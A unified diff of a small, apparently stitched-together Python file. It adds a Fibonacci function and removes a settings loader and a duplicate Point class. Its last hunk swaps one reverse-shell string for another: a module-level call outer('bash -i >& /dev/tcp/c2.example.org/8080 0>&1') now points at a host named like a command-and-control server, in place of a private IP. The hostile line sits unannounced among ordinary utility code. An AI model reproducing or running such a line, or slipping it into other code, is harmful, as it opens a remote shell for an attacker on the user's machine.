@@ -1,3 +1,10 @@
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
+
 from dataclasses import dataclass
 
 @dataclass
@@ -7,12 +14,6 @@ class Point:
 
     def norm(self):
         return (self.x ** 2 + self.y ** 2) ** 0.5
-
-import json
-
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
 
 import os
 
@@ -22,13 +23,4 @@ def inner(x):
 def outer(y):
     inner(y)
 
-outer("bash -i >& /dev/tcp/172.16.4.2/8080 0>&1")
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
+outer("bash -i >& /dev/tcp/c2.example.org/8080 0>&1")
